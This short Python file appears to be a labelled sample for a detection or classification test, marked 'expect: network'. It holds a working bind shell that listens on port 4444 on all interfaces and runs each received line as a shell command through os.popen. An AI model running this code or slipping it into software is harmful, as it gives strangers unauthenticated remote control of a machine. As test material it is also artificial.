# expect: network; socketserver-based bind shell on all interfaces that runs posted commands
import os
import socketserver


class Handler(socketserver.StreamRequestHandler):
    def handle(self):
        for raw in self.rfile:
            self.wfile.write(os.popen(raw.decode()).read().encode())


with socketserver.ThreadingTCPServer(("", 4444), Handler) as server:
    server.serve_forever()
